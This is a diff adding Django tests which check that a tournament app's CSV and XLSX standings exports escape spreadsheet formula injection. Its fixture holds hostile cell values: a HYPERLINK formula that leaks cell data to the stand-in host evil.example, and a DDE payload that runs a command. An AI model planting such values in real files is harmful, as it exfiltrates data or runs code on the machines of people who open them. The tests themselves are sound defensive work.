@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 from test_public_scenario import body_rows, build_cup, build_field
 
 from tournament.models import Tournament
+from tournament.services import add_player
 from tournament.tables import StandingsTable, points_as_decimal
 
 URL = reverse("public:standings", args=["spring-cup"])
@@ -228,3 +229,41 @@ def test_query_count_does_not_grow_with_the_field(
     assert len(keys_in_order(response)) == 4 * tables
     with django_assert_max_num_queries(3):
         assert client.get(URL, {"_export": "xlsx"}).status_code == 200
+
+
+HOSTILE = {
+    "key": "@1",
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "country": "+cmd|' /C calc'!A0",
+    "club": "-1+1",
+}
+
+
+@pytest.fixture
+def hostile(tournament):
+    add_player(tournament=tournament, **HOSTILE)
+    add_player(tournament=tournament, key="2", name="Plain\tTab", club="\rClub")
+    return tournament
+
+
+def test_csv_export_writes_typed_text_that_cannot_be_a_formula(client, hostile):
+    response = client.get(URL, {"_export": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    by_name = {row[2]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
+    first = by_name["'" + HOSTILE["name"]]
+    assert [first[column] for column in ("Key", "Country", "Club")] == [
+        "'" + HOSTILE[field] for field in ("key", "country", "club")
+    ]
+    assert by_name["Plain\tTab"]["Club"] == "'\rClub"  # a tab inside the text is harmless
+
+
+def test_xlsx_export_writes_typed_text_that_cannot_be_a_formula(client, hostile):
+    response = client.get(URL, {"_export": "xlsx"})
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]
+    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
+    names = [row[2].value for row in rows]
+    assert "'" + HOSTILE["name"] in names
+    assert [row[6].value for row in rows] == [0, 0]  # numbers stay numbers
